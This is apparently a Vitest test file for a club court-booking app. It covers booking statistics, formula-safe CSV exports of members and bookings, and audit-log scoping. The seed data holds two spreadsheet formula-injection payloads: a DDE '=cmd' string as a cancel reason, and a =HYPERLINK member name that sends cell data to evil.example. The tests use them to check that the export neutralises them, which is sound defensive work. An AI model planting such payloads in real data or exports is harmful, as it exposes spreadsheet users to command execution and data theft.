/**
 * Exports, statistics and the audit log (ADR 009): a seeded data set
 * with every number known in advance, CSV downloads that are formula-safe, and club scoping.
 */
import { beforeAll, describe, expect, it, vi } from "vitest";
import { parseCsv, UTF8_BOM } from "@/lib/csv";
import { db } from "@/server/db";
import { AppError } from "@/server/errors";
import { listAuditEvents } from "@/server/admin/audit/list-audit-events";
import { getClubStatistics } from "@/server/admin/statistics/get-club-statistics";
import { GET as bookingsCsv } from "@/app/c/[club]/admin/exports/bookings.csv/route";
import { GET as membersCsv } from "@/app/c/[club]/admin/exports/members.csv/route";
import { createClub, createCourt } from "../helpers/builders";
import { addMembership, as, createAccount } from "../helpers/auth";

vi.mock("next/headers", () => import("../helpers/fake-next-request"));

let club: { id: string; slug: string };
let other: { id: string; slug: string };
let manager: { id: string; email: string };
let staff: { id: string };
let otherManager: { id: string };
let courtA = "";
let courtB = "";
const users = {} as Record<"u1" | "u2" | "u3" | "evil", { id: string; email: string }>;

async function outcome(run: () => Promise<unknown>): Promise<string> {
  try {
    const r = await run();
    return r instanceof Response ? String(r.status) : "ok";
  } catch (err) {
    const digest = (err as { digest?: unknown }).digest;
    if (typeof digest === "string" && digest.startsWith("NEXT_HTTP_ERROR_FALLBACK;404"))
      return "not-found";
    if (typeof digest === "string" && digest.includes("/login?next=")) return "sign-in";
    if (err instanceof AppError) return err.code;
    throw err;
  }
}

/** A booking at local Paris times (UTC+1 in November 2026). */
async function insertBooking(
  clubId: string,
  courtId: string,
  by: string,
  startsAt: string,
  endsAt: string,
  cancelledAt?: string,
) {
  await db.booking.create({
    data: {
      clubId,
      courtId,
      createdById: by,
      startsAt: new Date(`${startsAt}+01:00`),
      endsAt: new Date(`${endsAt}+01:00`),
      status: cancelledAt ? "CANCELLED" : "CONFIRMED",
      cancelledAt: cancelledAt ? new Date(`${cancelledAt}+01:00`) : null,
      cancelReason: cancelledAt ? "=cmd|' /C calc'!A0" : null,
    },
  });
}

beforeAll(async () => {
  club = await createClub({ timeZone: "Europe/Paris" });
  other = await createClub({ timeZone: "Europe/Paris" });
  manager = await createAccount({ totp: true, name: "Max Manager" });
  staff = await createAccount({ totp: true });
  otherManager = await createAccount({ totp: true });
  await addMembership(manager.id, club.id, "MANAGER");
  await addMembership(staff.id, club.id, "STAFF");
  await addMembership(otherManager.id, other.id, "MANAGER");
  courtA = (await createCourt(club.id, { name: "Court A", position: 0 })).id;
  courtB = (await createCourt(club.id, { name: "Court B", position: 1 })).id;
  const otherCourt = (await createCourt(other.id, { name: "Elsewhere" })).id;
  for (let weekday = 1; weekday <= 7; weekday++)
    await db.openingHours.create({
      data: { clubId: club.id, weekday, opensMinute: 8 * 60, closesMinute: 22 * 60 },
    });
  await db.courtOpeningHours.create({ data: { courtId: courtB, weekday: 7, closed: true } });
  const standard = await db.membershipTier.create({ data: { clubId: club.id, name: "Standard" } });
  const junior = await db.membershipTier.create({ data: { clubId: club.id, name: "Junior" } });
  users.u1 = await createAccount({ name: "Ulla One" });
  users.u2 = await createAccount({ name: "Zoë, d'Artagnan" });
  users.u3 = await createAccount({ name: "Ugo Three" });
  users.evil = await createAccount({ name: '=HYPERLINK("http://evil.example/?x="&A1,"Click")' });
  await db.membership.createMany({
    data: [
      { userId: users.u1.id, clubId: club.id, tierId: standard.id },
      { userId: users.u2.id, clubId: club.id, tierId: junior.id },
      { userId: users.u3.id, clubId: club.id },
      { userId: users.evil.id, clubId: club.id },
      { userId: users.u1.id, clubId: other.id },
    ],
  });

  // The period: Monday 2 to Sunday 8 November 2026, Paris time.
  await insertBooking(club.id, courtA, users.u1.id, "2026-11-02T09:00", "2026-11-02T10:00");
  await insertBooking(club.id, courtA, users.u1.id, "2026-11-02T10:30", "2026-11-02T12:00");
  await insertBooking(club.id, courtB, users.u2.id, "2026-11-04T18:00", "2026-11-04T19:30");
  await insertBooking(club.id, courtA, users.u3.id, "2026-11-08T23:30", "2026-11-09T00:30");
  // Cancelled 60 minutes ahead, 2 days ahead, and 10 minutes after the start.
  await insertBooking(
    club.id,
    courtA,
    users.u1.id,
    "2026-11-03T09:00",
    "2026-11-03T10:00",
    "2026-11-03T08:00",
  );
  await insertBooking(
    club.id,
    courtB,
    users.u2.id,
    "2026-11-06T20:00",
    "2026-11-06T21:00",
    "2026-11-04T20:00",
  );
  await insertBooking(
    club.id,
    courtA,
    users.u1.id,
    "2026-11-05T12:00",
    "2026-11-05T13:00",
    "2026-11-05T12:10",
  );
  // Outside the period (just before, just after) and in another club.
  await insertBooking(club.id, courtA, users.u1.id, "2026-11-01T23:00", "2026-11-01T23:59");
  await insertBooking(club.id, courtA, users.u1.id, "2026-11-09T09:00", "2026-11-09T10:00");
  await insertBooking(other.id, otherCourt, users.u1.id, "2026-11-03T09:00", "2026-11-03T10:00");
});

describe("statistics", () => {
  it("match the seeded data set exactly", async () => {
    await as(manager);
    const s = await getClubStatistics(club.slug, { from: "2026-11-02", to: "2026-11-08" });
    expect(s.totals).toEqual({ bookings: 4, bookedMinutes: 300, cancelled: 3 });
    expect(s.byCourt).toEqual([
      { courtId: courtA, name: "Court A", bookings: 3, bookedMinutes: 210, openMinutes: 7 * 840 },
      { courtId: courtB, name: "Court B", bookings: 1, bookedMinutes: 90, openMinutes: 6 * 840 },
    ]);
    // A booking is split over the local hours it covers; 23:30–00:30 straddles Sunday and Monday.
    expect(s.heatmap).toEqual([
      { weekday: 1, hour: 0, bookedMinutes: 30 },
      { weekday: 1, hour: 9, bookedMinutes: 60 },
      { weekday: 1, hour: 10, bookedMinutes: 30 },
      { weekday: 1, hour: 11, bookedMinutes: 60 },
      { weekday: 3, hour: 18, bookedMinutes: 60 },
      { weekday: 3, hour: 19, bookedMinutes: 30 },
      { weekday: 7, hour: 23, bookedMinutes: 30 },
    ]);
    expect(s.byTier.map((t) => [t.name, t.bookings])).toEqual([
      ["Standard", 2],
      ["Junior", 1],
      [null, 1],
    ]);
    expect(s.cancellations).toEqual({
      count: 3,
      averageLeadMinutes: Math.round((60 + 2880 - 10) / 3),
      medianLeadMinutes: 60,
      buckets: [
        { label: "After the start", count: 1 },
        { label: "Less than 2 hours", count: 1 },
        { label: "2 to 24 hours", count: 0 },
        { label: "1 to 7 days", count: 1 },
        { label: "More than 7 days", count: 0 },
      ],
    });
  });

  it("count in the club's time zone: one day only holds that day's bookings", async () => {
    await as(manager);
    const s = await getClubStatistics(club.slug, { from: "2026-11-01", to: "2026-11-01" });
    expect(s.totals).toEqual({ bookings: 1, bookedMinutes: 59, cancelled: 0 });
    expect(s.heatmap).toEqual([{ weekday: 7, hour: 23, bookedMinutes: 59 }]);
  });

  it("add up on the night clocks go back (Paris, 25 October 2026: 02:00–03:00 happens twice)", async () => {
    // 01:30 summer time to 03:30 winter time: 3 real hours.
    await db.booking.create({
      data: {
        clubId: club.id,
        courtId: courtB,
        createdById: users.u2.id,
        startsAt: new Date("2026-10-25T01:30+02:00"),
        endsAt: new Date("2026-10-25T03:30+01:00"),
      },
    });
    await as(manager);
    const s = await getClubStatistics(club.slug, { from: "2026-10-25", to: "2026-10-25" });
    expect(s.totals).toEqual({ bookings: 1, bookedMinutes: 180, cancelled: 0 });
    expect(s.heatmap).toEqual([
      { weekday: 7, hour: 1, bookedMinutes: 30 },
      { weekday: 7, hour: 2, bookedMinutes: 120 },
      { weekday: 7, hour: 3, bookedMinutes: 30 },
    ]);
  });

  it("refuse a bad period, staff and a manager of another club", async () => {
    await as(manager);
    expect(
      await outcome(() => getClubStatistics(club.slug, { from: "2026-11-08", to: "2026-11-01" })),
    ).toBe("BAD_REQUEST");
    expect(
      await outcome(() => getClubStatistics(club.slug, { from: "2025-01-01", to: "2026-11-01" })),
    ).toBe("BAD_REQUEST");
    await as(staff);
    expect(
      await outcome(() => getClubStatistics(club.slug, { from: "2026-11-02", to: "2026-11-08" })),
    ).toBe("not-found");
    await as(otherManager);
    expect(
      await outcome(() => getClubStatistics(club.slug, { from: "2026-11-02", to: "2026-11-08" })),
    ).toBe("not-found");
  });
});

describe("CSV exports", () => {
  const call = (handler: typeof membersCsv, slug: string, query = ""): Promise<Response> =>
    handler(new Request(`http://localhost:3000/c/${slug}/admin/exports/x.csv${query}`), {
      params: Promise.resolve({ club: slug }),
    });

  it("members: right columns and characters, and the =HYPERLINK member comes out inert", async () => {
    await as(manager);
    const res = await call(membersCsv, club.slug);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("text/csv; charset=utf-8");
    expect(res.headers.get("content-disposition")).toMatch(
      new RegExp(`^attachment; filename="${club.slug}-members-\\d{4}-\\d{2}-\\d{2}\\.csv"`),
    );
    const bytes = new Uint8Array(await res.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = new TextDecoder("utf-8", { ignoreBOM: true }).decode(bytes);
    expect(
      text.startsWith(UTF8_BOM + "Name,Email,Role,Tier,Status,Valid until,Member since\r\n"),
    ).toBe(true);
    expect(text).toContain('"Zoë, d\'Artagnan",');
    const { rows, error } = parseCsv(text);
    expect(error).toBeNull();
    expect(rows[0]).toEqual([
      "Name",
      "Email",
      "Role",
      "Tier",
      "Status",
      "Valid until",
      "Member since",
    ]);
    const evil = rows.find((r) => r[1] === users.evil.email)!;
    expect(evil[0]).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    // No cell of the file starts with a formula character.
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    expect(rows.find((r) => r[1] === users.u2.email)?.slice(2, 5)).toEqual([
      "PLAYER",
      "Junior",
      "ACTIVE",
    ]);
    // Only this club's members (u1 is also in the other club: listed once).
    expect(rows.filter((r) => r[1] === users.u1.email)).toHaveLength(1);
    expect(rows).toHaveLength(1 + 6);
    expect(
      await db.auditEvent.count({ where: { action: "admin.export.members", clubId: club.id } }),
    ).toBe(1);
  });

  it("bookings: local times, players, the period only, cancel reasons neutralised", async () => {
    await as(manager);
    const res = await call(bookingsCsv, club.slug, "?from=2026-11-02&to=2026-11-08");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-disposition")).toContain(
      `filename="${club.slug}-bookings-2026-11-02-to-2026-11-08.csv"`,
    );
    const { rows } = parseCsv(await res.text());
    expect(rows[0]).toEqual([
      "Date",
      "Start",
      "End",
      "Court",
      "Status",
      "Booked by",
      "Booker email",
      "Players",
      "Guests",
      "Created at",
      "Cancelled at",
      "Cancel reason",
    ]);
    expect(rows).toHaveLength(1 + 7);
    expect(rows[1]!.slice(0, 7)).toEqual([
      "2026-11-02",
      "09:00",
      "10:00",
      "Court A",
      "CONFIRMED",
      "Ulla One",
      users.u1.email,
    ]);
    const cancelled = rows.find((r) => r[0] === "2026-11-06")!;
    expect(cancelled.slice(4, 5)).toEqual(["CANCELLED"]);
    expect(cancelled[10]).toBe("2026-11-04 20:00");
    expect(cancelled[11]).toBe("'=cmd|' /C calc'!A0");
  });

  it("refuse a bad period (400), anonymous callers (sign in), staff and other clubs (404)", async () => {
    await as(manager);
    expect(await outcome(() => call(bookingsCsv, club.slug, "?from=x&to=y"))).toBe("400");
    await as(null);
    expect(await outcome(() => call(membersCsv, club.slug))).toBe("sign-in");
    await as(staff);
    expect(await outcome(() => call(membersCsv, club.slug))).toBe("not-found");
    expect(
      await outcome(() => call(bookingsCsv, club.slug, "?from=2026-11-02&to=2026-11-08")),
    ).toBe("not-found");
    await as(otherManager);
    expect(await outcome(() => call(membersCsv, club.slug))).toBe("not-found");
    // Their own club's export holds nothing of this club.
    const own = await call(membersCsv, other.slug);
    const { rows } = parseCsv(await own.text());
    expect(
      rows
        .map((r) => r[1])
        .filter((e) => e !== "Email")
        .sort(),
    ).toEqual(
      [
        users.u1.email,
        (await db.user.findUniqueOrThrow({ where: { id: otherManager.id } })).email,
      ].sort(),
    );
  });
});

describe("audit log", () => {
  beforeAll(async () => {
    const base = Date.parse("2026-11-10T12:00:00Z");
    await db.auditEvent.createMany({
      data: [
        ...Array.from({ length: 60 }, (_, i) => ({
          clubId: club.id,
          actorId: manager.id,
          action: "admin.court.updated",
          at: new Date(base + i * 60_000),
          ip: "198.51.100.7",
        })),
        {
          clubId: club.id,
          actorId: users.u1.id,
          action: "booking.created",
          at: new Date("2026-11-03T08:00:00Z"),
        },
        {
          clubId: other.id,
          actorId: otherManager.id,
          action: "admin.secret.other",
          at: new Date(base),
        },
      ],
    });
  });

  it("pages through the club's events, newest first, and filters by action, actor and dates", async () => {
    await as(manager);
    const all = await listAuditEvents(club.slug, { action: "admin.court.updated" });
    expect(all.rows).toHaveLength(50);
    expect(all.hasNext).toBe(true);
    expect(all.rows[0]).toMatchObject({
      action: "admin.court.updated",
      actor: { id: manager.id, name: "Max Manager", email: manager.email },
      ip: "198.51.100.7",
    });
    expect(all.rows[0]!.at > all.rows[1]!.at).toBe(true);
    const page2 = await listAuditEvents(club.slug, { action: "admin.court.updated", page: "2" });
    expect(page2.rows).toHaveLength(10);
    expect(page2.hasNext).toBe(false);

    const byActor = await listAuditEvents(club.slug, { actor: users.u1.email });
    expect(byActor.rows.map((r) => r.action)).toEqual(["booking.created"]);
    const byPrefix = await listAuditEvents(club.slug, { action: "booking." });
    expect(byPrefix.rows).toHaveLength(1);
    // 2026-11-03 08:00Z is 09:00 in Paris on the 3rd.
    const byDate = await listAuditEvents(club.slug, { from: "2026-11-03", to: "2026-11-03" });
    expect(byDate.rows.map((r) => r.action)).toEqual(["booking.created"]);
    expect(all.actions).not.toContain("admin.secret.other");
  });

  it("never shows another club's events, and refuses staff and other managers", async () => {
    await as(manager);
    const r = await listAuditEvents(club.slug, { action: "admin.secret.other" });
    expect(r.rows).toEqual([]);
    await as(staff);
    expect(await outcome(() => listAuditEvents(club.slug, {}))).toBe("not-found");
    await as(otherManager);
    expect(await outcome(() => listAuditEvents(club.slug, {}))).toBe("not-found");
  });

  it("events cannot be changed or deleted", async () => {
    const e = await db.auditEvent.findFirstOrThrow({ where: { clubId: club.id } });
    await expect(
      db.auditEvent.update({ where: { id: e.id }, data: { action: "x" } }),
    ).rejects.toThrow();
    await expect(db.auditEvent.delete({ where: { id: e.id } })).rejects.toThrow();
  });
});
